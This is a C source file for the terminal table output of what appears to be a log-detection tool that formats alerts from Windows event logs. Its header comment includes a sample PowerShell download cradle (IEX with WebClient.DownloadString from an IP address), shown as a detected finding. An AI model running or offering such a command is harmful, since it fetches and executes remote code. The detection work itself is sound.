/* SPDX-License-Identifier: Apache-2.0 */
/* The table is for a person at a terminal: what, how bad and when on the first line, where and who on the second,
 * then the part of the text that matched.
 *
 *	2024-01-02 03:04:05  high      Download Cradle In A Script Block
 *	    WS-07  CORP\alice  4104  record 8812  2/3 parts  match-on-partial  C:\Users\alice\x.ps1
 *	    …x = IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a'); …
 *
 * Everything goes through escape_terminal; the only control sequences are the SGR ones below. */
#include "src/output/sink.h"

#include "base/attr.h"
#include "base/limits.h"
#include "src/output/excerpt.h"
#include "src/output/width.h"

enum { WIDTH_UNKNOWN = 120, WIDTH_MIN = 40, WIDTH_MAX = 240, INDENT = 4, TEXT_LINES = 2 };

#define ELLIPSIS "\xE2\x80\xA6"
#define SGR_TITLE "\033[1m"
#define SGR_DIM "\033[2m"
#define SGR_HIT "\033[1;4m"
#define SGR_END "\033[0m"

static const struct level_look {
	const char *name, *sgr;
} levels[] = {
	{ "critical", "\033[1;97;41m" },
	{ "high", "\033[1;31m" },
	{ "medium", "\033[33m" },
	{ "low", "\033[36m" },
	{ "informational", "\033[2m" },
};

/* A line being filled. */
struct line {
	const struct sink_options *options;
	struct buf *out;
	unsigned width, used;
	unsigned more; /* further lines that running text may take */
	bool full;     /* it did, and met the end of the last one */
};

static void
put_sgr(const struct line *line, const char *sgr)
{
	if (line->options->color)
		buf_append_text(line->out, sgr);
}

static unsigned
columns_left(const struct line *line)
{
	return line->width > line->used ? line->width - line->used : 0;
}

/* Text cut to `most` columns (and to the line), with an ellipsis where it was. */
static void
put_text(struct line *line, struct slice text, unsigned most)
{
	unsigned left = columns_left(line) < most ? columns_left(line) : most, used = line->used;
	size_t len = line->out->len;

	if (left == 0)
		return;
	if (width_append(line->out, text, left, &line->used) == text.len)
		return;
	line->out->len = len;
	line->used = used;
	width_append(line->out, text, left - 1, &line->used);
	buf_append_text(line->out, ELLIPSIS);
	line->used++;
}

static void
put_blanks(struct line *line, unsigned count)
{
	for (; count > 0; count--, line->used++)
		buf_append_byte(line->out, ' ');
}

static void
end_line(struct line *line)
{
	buf_append_byte(line->out, '\n');
	line->used = 0;
}

static const char *
level_sgr(struct slice level)
{
	for (size_t i = 0; i < ARRAY_LEN(levels); i++)
		if (slice_eq_nocase(level, slice_from_text(levels[i].name)))
			return levels[i].sgr;
	return "";
}

/* "2024-01-02 03:04:05", seconds are enough to read along; times that are none stay whole. */
static void
put_time(struct line *line, struct slice time)
{
	if (time.len > 19 && time.ptr[10] == 'T') {
		put_text(line, slice_sub(time, 0, 10), 10);
		put_blanks(line, 1);
		put_text(line, slice_sub(time, 11, 8), 8);
	} else {
		put_text(line, time, 19);
	}
	put_blanks(line, line->used < 21 ? 21 - line->used : 1);
}

static void
put_head(struct line *line, const struct finding *finding)
{
	struct slice level = finding->column[COLUMN_LEVEL];
	unsigned start;

	if (slice_eq_nocase(level, SLICE("informational")))
		level = SLICE("info");
	put_time(line, finding->column[COLUMN_TIMESTAMP]);
	start = line->used;
	put_sgr(line, level_sgr(finding->column[COLUMN_LEVEL]));
	put_text(line, level, 8);
	put_sgr(line, SGR_END);
	put_blanks(line, start + 10 - line->used);
	put_sgr(line, SGR_TITLE);
	put_text(line, finding->column[COLUMN_RULE_TITLE], line->width);
	put_sgr(line, SGR_END);
	end_line(line);
}

/* One item of the second line: two blanks, a label, the text; nothing when there is no text. */
static void
put_item(struct line *line, const char *label, struct slice text, unsigned most)
{
	if (text.len == 0 || columns_left(line) < 4)
		return;
	if (line->used > INDENT)
		put_blanks(line, 2);
	put_text(line, slice_from_text(label), 16);
	put_text(line, text, most);
}

static struct slice
first_item(struct slice list)
{
	struct slice item = SLICE_EMPTY;

	slice_split(&list, '\0', &item);
	return item;
}

static void
put_place(struct line *line, const struct finding *finding)
{
	const struct slice *column = finding->column;
	struct slice parts = column[COLUMN_PARTS];

	put_blanks(line, INDENT);
	put_item(line, "", column[COLUMN_COMPUTER], 32);
	put_item(line, "", column[COLUMN_USER].len ? column[COLUMN_USER] : column[COLUMN_USER_SID], 48);
	put_sgr(line, SGR_DIM);
	put_item(line, "", column[COLUMN_EVENT_ID], 8);
	put_item(line, "record ", first_item(column[COLUMN_RECORD_IDS]), 20);
	if (!slice_eq(parts, SLICE("1/1")))
		put_item(line, "parts ", parts, 16);
	if (finding->verdict != VERDICT_MATCH)
		put_item(line, "", column[COLUMN_VERDICT], 16);
	put_item(line, "", column[COLUMN_PATH].len ? column[COLUMN_PATH] : column[COLUMN_IMAGE], line->width);
	put_sgr(line, SGR_END);
	end_line(line);
}

/* What the last lines show: the subject's text when something matched there, else the field that did match, else the
 * text or the command line all the same. */
struct shown {
	struct slice name, text;
	const struct finding_hit *hit;
};

static struct shown
choose_text(const struct finding *finding)
{
	struct shown shown = { .text = finding->column[COLUMN_TEXT] };

	shown.hit = excerpt_first_hit(finding, finding->text_field);
	if (shown.text.len && (shown.hit || finding->hit_count == 0))
		return shown;
	for (size_t i = 0; i < finding->hit_count; i++) {
		const struct finding_hit *hit = &finding->hits[i];

		if (hit->field < finding->field_count && finding->fields[hit->field].text.len)
			return (struct shown){ finding->fields[hit->field].name, finding->fields[hit->field].text, hit };
	}
	shown.hit = NULL;
	if (shown.text.len == 0)
		shown.text = finding->column[COLUMN_COMMAND_LINE];
	return shown;
}

/* Text that runs on over the lines it may take; the last column of the last one is for the ellipsis. */
static void
put_running(struct line *line, struct slice text)
{
	while (text.len && !line->full) {
		unsigned left = columns_left(line) - (line->more == 0 && columns_left(line) ? 1 : 0);
		size_t took = width_append(line->out, text, left, &line->used);

		text = slice_sub(text, took, text.len);
		if (text.len == 0)
			return;
		if (line->more == 0) {
			buf_append_text(line->out, ELLIPSIS);
			line->full = true;
			return;
		}
		line->more--;
		end_line(line);
		put_blanks(line, INDENT);
	}
}

/* What stands before the match must not push it off the lines, however wide its escapes are. */
static struct slice
shorten_front(struct buf *out, struct slice front, unsigned most, bool *cut)
{
	size_t len = out->len;

	for (;;) {
		unsigned used = 0;

		width_append(out, front, UINT32_MAX, &used);
		out->len = len;
		if (used <= most)
			return front;
		*cut = true;
		front = excerpt_around(front, front.len, 0, front.len / 8 < 8 ? 8 : front.len / 8).text;
		if (front.len <= 32)
			return front;
	}
}

static void
put_excerpt(struct line *line, const struct finding *finding)
{
	struct shown shown = choose_text(finding);
	unsigned room = TEXT_LINES * (line->width - INDENT);
	struct slice front;
	struct excerpt e;

	if (shown.text.len == 0)
		return;
	line->more = TEXT_LINES - 1;
	put_blanks(line, INDENT);
	if (shown.name.len) {
		put_text(line, shown.name, line->width / 3);
		put_text(line, SLICE(": "), 2);
	}
	e = excerpt_around(shown.text, shown.hit ? (size_t)shown.hit->start : 0, shown.hit ? (size_t)shown.hit->len : 0,
		room < LIMIT_CSV_TEXT ? room : LIMIT_CSV_TEXT);
	front = shorten_front(line->out, slice_sub(e.text, 0, e.hit), room / 3, &e.cut_front);
	if (e.cut_front)
		put_running(line, SLICE(ELLIPSIS));
	put_running(line, front);
	put_sgr(line, SGR_HIT);
	put_running(line, slice_sub(e.text, e.hit, e.hit_len));
	put_sgr(line, SGR_END);
	put_running(line, slice_sub(e.text, e.hit + e.hit_len, e.text.len));
	if (e.cut_back)
		put_running(line, SLICE(ELLIPSIS));
	end_line(line);
}

static void
table_begin(const struct sink_options *options, struct buf *out)
{
	(void)options;
	(void)out;
}

static void
table_finding(const struct sink_options *options, const struct finding *finding, uint64_t row, struct buf *out)
{
	struct line line = { .options = options, .out = out, .width = options->width };

	if (line.width == 0)
		line.width = WIDTH_UNKNOWN;
	if (line.width < WIDTH_MIN)
		line.width = WIDTH_MIN;
	if (line.width > WIDTH_MAX)
		line.width = WIDTH_MAX;
	if (row)
		buf_append_byte(out, '\n');
	put_head(&line, finding);
	put_place(&line, finding);
	put_excerpt(&line, finding);
}

static void
table_end(const struct sink_options *options, uint64_t rows, struct buf *out)
{
	(void)options;
	(void)rows;
	(void)out;
}

const struct sink_class sink_table = {
	.name = "table",
	.suffix = ".txt",
	.summary = "three or four lines a finding, for reading at a terminal",
	.begin = table_begin,
	.finding = table_finding,
	.end = table_end,
};
